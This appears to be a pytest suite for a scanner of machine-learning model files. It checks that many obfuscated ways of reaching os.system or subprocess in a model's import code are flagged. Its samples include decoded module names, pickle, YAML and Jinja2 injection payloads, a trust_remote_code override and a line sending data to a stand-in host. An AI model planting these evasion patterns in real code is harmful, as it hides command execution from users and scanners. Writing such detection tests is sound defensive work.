"""Calls that do not name what they call: told when they run with the import of a model, and honest look-alikes not."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect_tree

HEAD = "import base64, functools, importlib, operator, os, subprocess, sys, torch\nfrom torch import nn\n"
CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}).encode()


def worst(line: str, **files: str) -> int:
    """The worst finding for code that the import of a model runs."""
    tree = {"config.json": CONFIG, "modeling_x.py": f"{HEAD}{line}\nclass M(nn.Module):\n    pass\n".encode()}
    tree |= {path: text.encode() for path, text in files.items()}
    return max(found.severity.rank for found in inspect_tree(tree))


@pytest.mark.parametrize(
    "line",
    [
        "operator.methodcaller('sys' 'tem', 'id')(importlib.import_module('posix'))",
        "operator.itemgetter('system')(vars(os))('id')",
        "functools.reduce(getattr, ['system'], __import__('os'))('id')",
        "functools.reduce(lambda a, b: getattr(a, b), ['system'], os)('id')",
        "next(filter(os.system, ['id']))",
        "max(['id'], key=os.system)",
        "class T:\n    table = [len, os.system]\n    def run(self, i, x):\n        return self.table[i](x)\nT().run(1, 'id')",
        "class T:\n    __class_getitem__ = os.system",
        "H = {'run': subprocess.check_output}",
        "@os.system\nclass T: pass",
        "T = {'a': 'system', 'b': 'os'}\ndef f(a, b):\n    return getattr(__import__(T[a]), T[b])\ng = f('b', 'a')\ng('id')",
        "def d(s):\n    return ''.join(chr(ord(c) ^ 3) for c in s)\ngetattr(__import__(d('lp')), d('pzpwfn'))('id')",
        "(lambda m, a: getattr(m, a))(os, 'system')('id')",
        "m = __import__('xy'.translate({120: 'o', 121: 's'}))\nm.system('id')",
        "getattr(os, [n for n in dir(os) if n.endswith('stem')][0])('id')",
        "from os import *\nsystem('id')",
        "print.__self__.exec('import os')",
        "sys._getframe(0).f_builtins['exec']('import os')",
        "import pydoc\npydoc.locate('os.system')('id')",
        "import pkgutil\npkgutil.resolve_name('os:system')('id')",
        "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'os.system', 'command': 'id'}}})",
        "class T:\n    x: \"__import__('os').system('id')\"",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'import os; os.system(\"id\")')",
        "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')",
        "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [id]')",
        "import timeit\ntimeit.timeit('os.system(\"id\")', setup='import os')",
        "get_ipython().system('id')",
        "def d(s):\n    out = ''\n    for c in s:\n        out += chr(ord(c) - 7)\n    return out\n__import__(d('vz')).system('id')",
        "def d(s):\n    r = []\n    for c in s:\n        r.append(chr(ord(c) - 1))\n    return ''.join(r)\nexec(d('jnqpsu!pt'))",
        "for n in ('json', 'subprocess'):\n    m = importlib.import_module(n)\n    m.run(['id'])",
        'import ast\neval(ast.unparse(ast.parse(\'__import__("os").system("id")\')))',
        "import importlib.abc\nclass L(importlib.abc.SourceLoader):\n    pass",
        "from jinja2 import Template\nTemplate('{{ cycler.__init__.__globals__.os.popen(\"id\").read() }}').render()",
        'import jsonpickle\njsonpickle.decode(\'{"py/reduce": [{"py/function": "os.system"}]}\')',
        "import transformers.dynamic_module_utils as d\nd.resolve_trust_remote_code = lambda *a, **k: True",
        "os.environ['HF_ENDPOINT'] = 'https://hub-proxy.example'",
        "sys.path.insert(0, '/tmp/m')\nimport m",
    ],
)
def test_indirect_calls_are_seen_through(line: str) -> None:
    assert worst(line) >= Severity.HIGH.rank


@pytest.mark.parametrize(
    "line",
    [
        "operator.attrgetter('weight')(nn)",
        "functools.reduce(getattr, ['nn', 'functional'], torch)",
        "functools.reduce(operator.mul, [1, 2, 3], 1)",
        "act = {'relu': nn.ReLU, 'gelu': nn.GELU}['relu']()",
        "isinstance(None, (subprocess.Popen, int))",
        "def d(s):\n    return s.upper()\ngetattr(torch, d('x'), None)",
        "kind = getattr(torch, 'float16')",
        "flag = getattr(os, 'O_BINARY', 0)",
        "class T:\n    x: 'Optional[torch.Tensor]' = None\n    y: 'Callable[[int], int]'",
        "import ctypes\nctypes.c_int(3)",
        "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'logging.StreamHandler'}}})",
        "import platform\nplatform.system()",
        "chat = None\nif chat: chat.system('You are a helpful assistant.')",
        "def d(s):\n    out = ''\n    for c in s:\n        out += c.upper()\n    return out\nname = d('abc')",
        "for n in ('json', 're'):\n    m = importlib.import_module(n)\n    m.run(['id'])",
        "from jinja2 import Template\nTemplate('Dear {{ name }}').render(name='x')",
        "os.environ['HF_ENDPOINT'] = 'https://hf-mirror.com'",
        "sys.path.insert(0, os.path.dirname(__file__))",
    ],
)
def test_honest_code_of_the_same_form_is_not(line: str) -> None:
    assert worst(line) < Severity.HIGH.rank


def test_memory_made_executable_is_told_and_other_mappings_are_not() -> None:
    assert worst("import mmap\nb = mmap.mmap(-1, 4096, prot=7)") >= Severity.HIGH.rank
    assert (
        worst("import mmap\nb = mmap.mmap(-1, 9, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC)")
        >= Severity.HIGH.rank
    )
    entry = "class T(nn.Module):\n    def __init__(self, f):\n        self.m = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)"
    assert worst(f"import mmap\n{entry}") < Severity.HIGH.rank


def test_native_source_that_starts_programs() -> None:
    inline = (
        "from torch.utils.cpp_extension import load_inline\nload_inline('x', cpp_sources='SOURCE', functions=['f'])"
    )
    assert worst(inline.replace("SOURCE", 'int f(){ return system("id"); }')) >= Severity.HIGH.rank
    assert worst(inline.replace("SOURCE", "int f(){ return filesystem(1); }")) < Severity.HIGH.rank
    built = "from torch.utils.cpp_extension import load\nload(name='x', sources=['csrc/x.cpp'])"
    started = '#include <cstdlib>\nstatic int once = std::system("id");\n'
    assert worst(built, **{"csrc/x.cpp": started}) >= Severity.HIGH.rank
    assert worst("", **{"csrc/x.cpp": started}) < Severity.HIGH.rank
    assert worst(built, **{"csrc/x.cpp": "void system(const char* name); // declared only\n"}) < Severity.HIGH.rank


def test_a_function_that_gives_the_name_of_a_program_decodes_nothing() -> None:
    tool = "import os, platform, shutil, subprocess\ndef tool():\n    {}\n    return name\ndef ask():\n    return subprocess.check_output([tool(), '--query-gpu=name'])"
    asks = "name = 'nvidia-smi'\n    if platform.system() == 'Windows':\n        name = os.environ['systemdrive'] + 'x.exe'"
    assert worst(tool.format(asks)) < Severity.HIGH.rank
    shifted = "name = ''\n    for letter in 'cbti':\n        name += chr(ord(letter) - 1)"
    assert worst(tool.format(shifted)) >= Severity.HIGH.rank


MADE = "compile(base64.b64decode('cHJpbnQoMSk=').decode(), 'k', 'exec')"


@pytest.mark.parametrize(
    ("line", "told"),
    [
        (f"type(lambda: 0)({MADE}, {{}})()", True),
        (f"(lambda: 0).__class__({MADE}, {{}})()", True),
        (f"def k(): pass\ntype(k)({MADE}, {{}})()", True),
        (f"def k(): pass\nF = type(k)\nF({MADE}, {{}})()", True),
        (f"def k(): pass\nk.__code__ = {MADE}\nk()", True),
        (f"def k(): pass\nsetattr(k, '__code__', {MADE})\nk()", True),
        ("def k(): pass\nk.__code__ = k.__code__.replace(co_code=bytes.fromhex('9700'))\nk()", True),
        ("def k(): pass\nC = type(k.__code__)\nC(0, 0, bytes.fromhex('64'), (), ('os', 'system'))", True),
        ("def k(): pass\ndef j(): pass\nk.__code__ = j.__code__", False),
        ("class T:\n    def k(self, other):\n        return type(other)(self)\nT().k(T())", False),
        ("def out(): pass\ndef f(out):\n    return type(out)(1, 2)\nf((1,))", False),
        ("__import__('os.path').system('id')", True),
        ("__import__('os.path').path.join('a', 'b')", False),
        ("import importlib._bootstrap as b\nb._gcd_import('subprocess').run(['id'])", True),
        ("from importlib.util import find_spec, module_from_spec\nm = module_from_spec(find_spec('subprocess'))\nm.run(['id'])", True),
        ("import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'o' 's'][0].system('id')", True),
        ("import gc\nfor o in gc.get_objects():\n    if torch.is_tensor(o):\n        o.detach_()", False),
        ("for n, m in list(sys.modules.items()):\n    if n.startswith('subpro'):\n        m.Popen(['id'])", True),
        ("for n, m in list(sys.modules.items()):\n    if n.startswith('model'):\n        importlib.reload(m)", False),
        ("next(v for k, v in vars(os).items() if k.endswith('ystem'))('id')", True),
        ("{v.__name__: v for v in vars(os).values() if callable(v)}['system']('id')", True),
        ("import types\ntypes.SimpleNamespace(**vars(os)).system('id')", True),
        ("import weakref\nweakref.ref(os)().system('id')", True),
        ("import warnings\nwarnings.catch_warnings()._module.sys.modules['os'].system('id')", True),
        ("getattr(sys.modules[__name__], '__builtins__')['exec']('import os')", True),
        ("import types\ndef k(): pass\nobject.__setattr__(k, '__code__', f(base64))\nk()", True),
        ("class T:\n    def __init__(self):\n        object.__setattr__(self, 'code', 1)\nT()", False),
        ("print(sorted(vars(os).items()))", False),
    ],
)  # fmt: skip
def test_functions_made_and_found_without_a_name(line: str, told: bool) -> None:
    assert (worst(line) >= Severity.HIGH.rank) is told


def test_what_the_top_package_of_an_import_leads_to() -> None:
    line = "def f(x):\n    __import__('urllib.request').request.urlopen('https://a.example/c', data=x)\nf(b'1')"
    assert worst(line) >= Severity.HIGH.rank
